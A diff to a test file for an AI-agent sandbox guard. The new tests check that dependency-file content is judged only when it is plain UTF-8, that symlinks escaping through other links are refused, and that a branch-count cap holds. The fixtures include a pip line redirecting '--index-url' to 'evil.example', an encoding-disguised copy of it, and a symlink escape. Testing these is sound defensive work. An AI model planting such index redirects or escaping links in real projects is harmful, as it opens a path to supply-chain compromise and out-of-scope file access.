@@ -10,12 +10,12 @@ import os from 'node:os';
 import path from 'node:path';
 import { applyChangeSet } from '../../src/guard/boundary/apply';
 import { buildChangeSet, type ChangeLimits, type ScanResult } from '../../src/guard/boundary/changeSet';
-import { agentTips, importCommits } from '../../src/guard/boundary/commits';
+import { agentTips, importCommits, MAX_TIPS } from '../../src/guard/boundary/commits';
 import { diskOverrun } from '../../src/guard/boundary/index';
 import { probeSource, removeTree } from '../../src/guard/boundary/overlay';
 import { builtinFileKinds, parseFileKinds } from '../../src/guard/boundary/fileKinds';
 import { compileGlob } from '../../src/guard/boundary/glob';
-import { buildPolicy, gitConfigRules, isGitName, nameRefusal } from '../../src/guard/boundary/policy';
+import { buildPolicy, gitConfigRules, isGitName, judgedText, nameRefusal } from '../../src/guard/boundary/policy';
 import { boundaryLines, boundaryMarkdown, printable } from '../../src/guard/boundary/report';
 import type { FileChange } from '../../src/guard/boundary/types';
 import { GuardError } from '../../src/guard/errors';
@@ -64,6 +64,23 @@ describe('names', () => {
   it('refuse control and bidi characters, which make a name read as another', () => {
     for (const name of ['a\nb', 'tab\tname', 'cr\r', 'esc\u001b[31m', 'del\u007f', 'c1\u0085', 'rtl\u202etxt.exe', 'iso\u2066x']) expect({ name, refused: nameRefusal(name) !== undefined }).toEqual({ name, refused: true });
     for (const name of ['README.md', 'café', 'naïve.txt', '日本語', 'emoji-😀', 'a b']) expect({ name, refused: nameRefusal(name) }).toEqual({ name, refused: undefined });
+  });
+});
+
+describe('content a rule judges', () => {
+  const evil = '--index-url https://evil.example/simple\nflask\n';
+  it('is plain UTF-8 or not judged at all: pip reads UTF-16 and UTF-32 marks and PEP 263 coding lines', () => {
+    expect(judgedText(Buffer.from(evil))).toBe(evil);
+    expect(judgedText(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(evil)]))).toBe(evil);
+    expect(judgedText(Buffer.from('# -*- coding: utf-8 -*-\n' + evil))).toContain('--index-url');
+    expect(judgedText(Buffer.from('\ufeff' + evil, 'utf16le'))).toBeUndefined();
+    expect(judgedText(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(evil, 'utf16le').swap16()]))).toBeUndefined();
+    expect(judgedText(Buffer.from('# -*- coding: utf-7 -*-\n+AC0AIQ-index-url https://evil.example/\n'))).toBeUndefined();
+    expect(judgedText(Buffer.from('flask\n# vim: set fileencoding=cp037 :\n'))).toBeUndefined();
+    expect(judgedText(Buffer.from('flask\n\u0000'))).toBeUndefined();
+    expect(judgedText(Buffer.from([0x66, 0xff, 0x0a]))).toBeUndefined();
+    // A coding line below the second line is not one (PEP 263).
+    expect(judgedText(Buffer.from('a\nb\n# coding: utf-7\n'))).toBe('a\nb\n# coding: utf-7\n');
   });
 });
 
@@ -505,7 +522,7 @@ describeRoot('commits come back as objects and a ref', () => {
   });
   afterEach(() => fs.rmSync(base, { recursive: true, force: true }));
   const importInput = (allow: string[] = [], maxBytes = 1024 ** 3) => ({
-    workspace: real, agentGitDir: path.join(agent, '.git'), runId: 'test', owner: undefined, policy: buildPolicy(real, allow), maxBytes,
+    workspace: real, agentGitDir: path.join(agent, '.git'), runId: 'test', owner: undefined, policy: buildPolicy(real, allow), maxBytes, maxFiles: 1000,
   });
 
   it('imports a new commit under refs/agent-guard and leaves HEAD, the branch and the config alone', () => {
@@ -570,6 +587,24 @@ describeRoot('commits come back as objects and a ref', () => {
     // --allow-path lifts tool configuration for commits as for files, never the structural rules.
     const allowed = importCommits({ ...importInput(['.npmrc', '.github/**']), runId: 'allowed' });
     expect(allowed.commits.map((c) => c.ref).sort()).toEqual(['refs/agent-guard/allowed/npmrc', 'refs/agent-guard/allowed/undone', 'refs/agent-guard/allowed/wf']);
+  });
+
+  it('refuses a committed link whose target routes through another link, as a later checkout would make both', () => {
+    git(agent, 'checkout', '-q', '-b', 'route', 'main');
+    fs.mkdirSync(path.join(agent, 'x', 'y'), { recursive: true });
+    // x/y/z is x: harmless alone; a -> x/y/z/../../q stays inside lexically but the kernel climbs out.
+    fs.symlinkSync('..', path.join(agent, 'x', 'y', 'z'));
+    fs.symlinkSync('x/y/z/../../q', path.join(agent, 'a'));
+    git(agent, 'add', '-A');
+    git(agent, 'commit', '-qm', 'route');
+    const r = importCommits(importInput());
+    expect(r.refused).toEqual([{ path: '.git (route)', reason: expect.stringMatching(/adds a: a symlink to "x\/y\/z\/\.\.\/\.\.\/q": its target passes through x\/y\/z, a symlink/) }]);
+  });
+
+  it(`refuses more than ${MAX_TIPS} branches in one line, without a git call per branch`, () => {
+    const sha = git(agent, 'rev-parse', 'HEAD');
+    for (let i = 0; i <= MAX_TIPS + 5; i++) fs.writeFileSync(path.join(agent, '.git', 'refs', 'heads', `b${i}`), `${sha}\n`);
+    expect(importCommits(importInput()).refused).toEqual([{ path: '.git', reason: `commits not brought back: the agent made more than ${MAX_TIPS} branches` }]);
   });
 
   it('refuses commits whose files hold more than --max-disk', () => {
